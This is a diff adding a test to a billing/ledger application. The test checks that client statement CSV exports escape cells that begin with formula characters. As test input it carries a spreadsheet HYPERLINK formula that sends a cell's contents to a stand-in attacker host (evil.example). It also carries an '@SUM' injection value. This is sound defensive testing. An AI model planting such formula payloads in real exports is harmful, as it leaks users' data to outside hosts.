@@ -207,3 +207,27 @@ def test_a_page_costs_the_same_queries_whatever_it_holds(tenant_a: Tenant) -> No
 
     assert many == few
     assert few <= 7  # token read + touch, throttle, count, page, 2 for the expenses
+
+
+def test_no_csv_cell_starts_a_formula(tenant_a: Tenant) -> None:
+    # given a staff credit whose reason is a spreadsheet formula, and a posting of an app's own
+    # kind (free text) that looks like one
+    from billow.ledger.actions import post_transaction
+
+    wallet = tenant_a.world.wallet(tenant_a.client)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
+    adjust_client_balance(
+        account=wallet, amount_minor=5, direction="credit", reason=formula, nonce="f1"
+    )
+    house = get_or_create_account(kind=AccountKind.ADJUSTMENTS, currency="USD")
+    post_transaction(
+        kind="@SUM(1+1)", legs=[(wallet, 7), (house, -7)], idempotency_key="f2", memo=formula
+    )
+    # when the client exports the statement
+    rows = _csv(tenant_a)
+    # then no cell starts a formula (negative amounts stay numbers), and the text is all there
+    cells = [value for row in rows for value in row.values()]
+    formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [c for c in formulas if not c.lstrip("-").replace(".", "").isdigit()] == []
+    assert (rows[-1]["kind"], rows[-1]["amount"]) == ("'@SUM(1+1)", "0.07")
+    assert rows[-1]["description"] == "'@SUM(1+1): " + formula
